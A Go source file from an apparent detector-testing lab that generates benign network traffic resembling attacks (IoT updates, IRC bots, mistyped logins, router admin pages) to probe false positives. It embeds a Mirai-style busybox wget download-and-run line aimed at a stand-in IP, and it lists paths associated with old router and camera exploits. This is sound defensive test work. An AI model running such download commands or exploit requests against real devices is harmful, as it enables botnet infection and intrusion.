// Package twin is harmless behaviour with the shape of an attack: what a detector
// of that attack must not take for one. Everything is a [world.Behaviour], as in
// lab/synth/attack; lab/synth calls it.
package twin

import (
	"fmt"
	"time"

	"cordon/lab/synth/attack"
	"cordon/lab/synth/dialogue"
	"cordon/lab/synth/message"
	"cordon/lab/synth/world"
)

// Beat is a device of a maker with a protocol of its own: two bytes up and the
// same two down, once a minute, with a server that it found by name.
func Beat(p *world.Proc, d *world.Device) {
	c := d.Call(p, "beat.porch.example.com", 8600)
	if c == nil {
		return
	}
	c.Ask([]byte("HELLO "+d.Name+"\n"), []byte("OK 60\n"))
	for p.Sleep(p.Jitter(time.Minute, 0.001)) {
		c.Ask([]byte{0xa5, 0x01}, []byte{0xa5, 0x01})
	}
}

// PingBroker keeps MQTT open to a broker whose address is built in.
func PingBroker(p *world.Proc, d *world.Device) {
	c := d.Dial(p, p.World.Far(p.World.Net.Named("broker.porch.example.com"), false), 1883)
	if c.Outcome != world.Answers {
		return
	}
	c.Ask(message.MQTTConnect(d.Name, 60), message.MQTTConnAck())
	for p.Sleep(p.Jitter(time.Minute, 0.001)) {
		c.Ask(message.MQTTPing(), message.MQTTPong())
	}
}

// download fetches a file by plain HTTP from a named host, as wget does.
func download(p *world.Proc, d *world.Device, host, path string, content []byte) {
	if c := d.Call(p, host, 80); c != nil {
		c.Ask(message.HTTPGet(host, path, "Wget/1.13 (linux-uclibc)"), message.HTTPFile("binary/octet-stream", content))
		c.Quit()
	}
}

// UpdateAgent is a device that asks its maker for the version of its agent and
// fetches it: a program for MIPS, by wget, without encryption.
func UpdateAgent(p *world.Proc, d *world.Device) {
	download(p, d, "api.sensor.example.com", "/agent/upgrade?model=DS-150", []byte(`{"latest":"1.1.0"}`))
	p.Sleep(1300 * time.Millisecond)
	download(p, d, "static.sensor.example.com", "/firmware/agent/DS-150-1.1.0-AX", message.ELF(300_000))
}

// UpdatePackages is a package manager: an index and a few packages.
func UpdatePackages(p *world.Proc, d *world.Device) {
	const host = "downloads.packages.example.org"
	download(p, d, host, "/mips_24kc/base/Packages.gz", message.Package(p.Rand, 60_000))
	for n := range 4 {
		download(p, d, host, fmt.Sprintf("/mips_24kc/base/busybox_%d.ipk", n), message.Package(p.Rand, 90_000))
		p.Sleep(p.Jitter(800*time.Millisecond, 0.3))
	}
}

// ChatIRC is a person in a channel about the garden.
func ChatIRC(p *world.Proc, d *world.Device) {
	c := d.Call(p, "irc.chat.example.org", 6667)
	if c == nil {
		return
	}
	const channel = "#gardening"
	i := dialogue.JoinIRC(p, c, "irc.chat.example.org", "ada", channel)
	for n := 0; p.Sleep(p.Poisson(12 * time.Second)); n++ {
		switch n % 4 {
		case 0:
			i.Hear("tom", channel, "has anybody seen my tomatoes?")
		case 1:
			i.Say(channel, "they went to http://www.garden.example.org/photos/41")
		case 2:
			i.Hear("eve", channel, ".weather tomorrow")
			i.Hear("helper", channel, "[rain] 12 mm, wind from the west")
		case 3:
			i.Ping()
		}
	}
}

// HelpOverIRC is a program that answers in a channel where people ask for help and
// for files, and order the helpers there about.
func HelpOverIRC(p *world.Proc, d *world.Device) {
	c := d.Call(p, "irc.help.example.org", 6667)
	if c == nil {
		return
	}
	const channel = "#help"
	i := dialogue.JoinIRC(p, c, "irc.help.example.org", "shelf", channel)
	for n := 0; p.Sleep(p.Poisson(9 * time.Second)); n++ {
		switch n % 6 {
		case 0:
			i.Hear("tom", channel, "!help")
		case 1:
			i.Say(channel, "tom: ask, and somebody will know")
		case 2:
			i.Hear("eve", channel, ".get it")
		case 3:
			i.Hear("ada", channel, "@update please")
		case 4:
			i.Hear("tom", channel, "thanks, that was it")
		case 5:
			i.Ping()
		}
	}
}

// Bootstrap is a client of BitTorrent that looks for its first nodes by name.
func Bootstrap(p *world.Proc, d *world.Device) {
	for _, name := range attack.Bootstrap {
		if h, ok := d.Resolve(p, name); ok {
			d.TalkFrom(p, 51413, p.World.Far(h, false), 6881).Ask(message.DHTQuery(p.Rand), message.DHTReply(p.Rand, 8))
		}
	}
}

// PlayTogether is a console in a game without a server: eleven players, whom a
// server named, each hear of every step; a third cannot be reached.
func PlayTogether(p *world.Proc, d *world.Device) {
	if h, ok := d.Resolve(p, "match.console.example.net"); ok {
		d.TalkFrom(p, 9308, p.World.Far(h, false), 3478).Ask([]byte("JOIN room 41"), message.Opaque(p.Rand, 90))
	}
	for n := range 11 {
		mood := world.Answers
		if n%3 == 2 {
			mood = world.Silent
		}
		to, port := p.World.Far(p.World.Net.Stranger(p.Rand, mood), false), uint16(20000+p.IntN(40000))
		p.Go(func(p *world.Proc) {
			t := d.TalkFrom(p, 9308, to, port)
			for step := range 4000 {
				where := append([]byte{'S', byte(step >> 8), byte(step)}, message.Opaque(p.Rand, 45)...)
				if !t.Ask(where, where) && step > 20 {
					return
				}
				if !p.Sleep(p.Jitter(90*time.Millisecond, 0.2)) {
					return
				}
			}
		})
	}
}

// MistypeSSH is a person who mistypes a password twice before it is right, at a
// server of the home and at one on the internet.
func MistypeSSH(nas *world.Device) world.Behaviour {
	return func(p *world.Proc, d *world.Device) {
		work := func(c *world.Conn) {
			if c == nil {
				return
			}
			s := dialogue.OpenSSH(p, c, "OpenSSH_for_Windows_8.6", "OpenSSH_9.2p1")
			for _, ok := range []bool{false, false, true} {
				p.Sleep(p.Jitter(3*time.Second, 0.4))
				s.Login(ok)
			}
			s.Type(40)
			c.Close()
		}
		work(d.Knock(p, nas.Addr, 22, 2))
		work(d.Call(p, "shell.work.example.org", 22))
	}
}

// BackUp logs in at one host every minute, with a key, and sends what is new.
func BackUp(p *world.Proc, d *world.Device) {
	for ok := true; ok; ok = p.Sleep(p.Jitter(time.Minute, 0.01)) {
		if c := d.Call(p, "vault.backup.example.org", 22); c != nil {
			s := dialogue.OpenSSH(p, c, "OpenSSH_8.4p1", "OpenSSH_9.2p1")
			s.Login(true)
			s.Copy(p.IntN(60_000))
			c.Close()
		}
	}
}

// MistypeFTP is a person who types a wrong password once and then uploads.
func MistypeFTP(p *world.Proc, d *world.Device) {
	c := d.Call(p, "ftp.website.example.org", 21)
	if c == nil {
		return
	}
	f := dialogue.OpenFTP(p, c, "website ready")
	f.Login("ada", "guess1", false)
	p.Sleep(4 * time.Second)
	f.Login("ada", "guess2", true)
	f.Say("CWD htdocs", "250 Directory changed.")
	f.Say("QUIT", "221 Goodbye.")
	c.Quit()
}

// PollPictures asks a camera for a picture every few seconds; each time the first
// request comes without a password, is refused and sent again.
func PollPictures(camera *world.Device) world.Behaviour {
	return func(p *world.Proc, d *world.Device) {
		for p.Sleep(p.Jitter(4*time.Second, 0.05)) {
			if c := d.Knock(p, camera.Addr, 80, 2); c != nil {
				host := camera.Addr.String()
				c.Ask(message.HTTPGet(host, "/picture.webp", "recorder"), message.HTTPRefused("camera"))
				c.Ask(message.HTTPAsk("GET", host, "/picture.webp", "recorder", message.Basic("viewer", "guess1"), ""),
					message.HTTPFile("image/webp", message.Opaque(p.Rand, 9000)))
				c.Close()
			}
		}
	}
}

// UseAdminPages is a person at the administration pages of the router and of a
// camera, whose paths are also those of old exploits.
func UseAdminPages(camera *world.Device) world.Behaviour {
	return func(p *world.Proc, d *world.Device) {
		const agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
		router, cam := p.World.Home.Router.Addr, camera.Addr
		for _, r := range []struct {
			camera                      bool
			method, path, headers, body string
		}{
			{false, "GET", "/boaform/admin/formLogin", "", ""},
			{false, "POST", "/boaform/admin/formLogin", "Content-Type: application/x-www-form-urlencoded\r\n", "username=admin&psd=guess1"},
			{false, "POST", "/HNAP1/", "SOAPAction: \"http://purenetworks.com/HNAP1/GetDeviceSettings\"\r\nContent-Type: text/xml\r\n", "<GetDeviceSettings/>"},
			{false, "GET", "/cgi-bin/luci/;stok=5eed5eed5eed/admin/status", "", ""},
			{true, "GET", "/cgi-bin/magicBox.cgi?action=getSystemInfo", "", ""},
			{true, "GET", "/setup.cgi?next_file=index.htm", "", ""},
			{true, "POST", "/cgi-bin/configManager.cgi", "Content-Type: application/x-www-form-urlencoded\r\n", "action=setConfig&ping_host=192.168.1.1"},
		} {
			to := router
			if r.camera {
				to = cam
			}
			if c := d.Knock(p, to, 80, 2); c != nil {
				c.Ask(message.HTTPAsk(r.method, to.String(), r.path, agent, r.headers, r.body), message.HTTPReply("200 OK", 2000))
				c.Close()
			}
			if !p.Sleep(p.Poisson(3 * time.Second)) {
				return
			}
		}
	}
}

// ReadAdvisories is a person who reads about worms, without encryption: the words
// of an attack are in the addresses and in the pages.
func ReadAdvisories(p *world.Proc, d *world.Device) {
	const host = "www.advisories.example.org"
	h, ok := d.Resolve(p, host)
	if !ok {
		return
	}
	page := []byte("<h1>How it spreads</h1><pre>cd /tmp; /bin/busybox wget http://192.0.2.9/bins/mirai.mips -O - > dvrHelper</pre>")
	for _, path := range []string{"/search?q=wget+http://192.0.2.9/bins/mirai.mips", "/search?q=wget%20http%3A%2F%2F192.0.2.9", "/GponForm/diag_Form"} {
		if c := d.Dial(p, p.World.Far(h, false), 80); c.Outcome == world.Answers {
			c.Ask(message.HTTPGet(host, path, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"), message.HTTPFile("text/html", page))
			c.Close()
		}
		p.Sleep(p.Poisson(5 * time.Second))
	}
}

// UseTelnet is a person at an old switch of the home, who mistypes once, and then
// at a hobbyist's mailbox.
func UseTelnet(old *world.Device) world.Behaviour {
	return func(p *world.Proc, d *world.Device) {
		if c := d.Knock(p, old.Addr, 23, 2); c != nil {
			t := dialogue.OpenTelnet(p, c, old.Name)
			t.Typing = 160 * time.Millisecond
			t.Login("admin", "guess1", false)
			t.Login("admin", "guess2", true)
			t.Run("enable", "")
			t.Run("show interfaces status", "Gi0/1 connected 1000\r\nGi0/2 notconnect auto")
			c.Close()
		}
		if c := d.Call(p, "bbs.retro.example.org", 23); c != nil {
			t := dialogue.OpenTelnet(p, c, "retro")
			t.Typing = 180 * time.Millisecond
			t.Login("ada", "guess3", true)
			for range 12 {
				t.Run("next", "A message about modems, and how they sang.\r\nAnother about 0x00.")
				p.Sleep(p.Poisson(6 * time.Second))
			}
			c.Close()
		}
	}
}
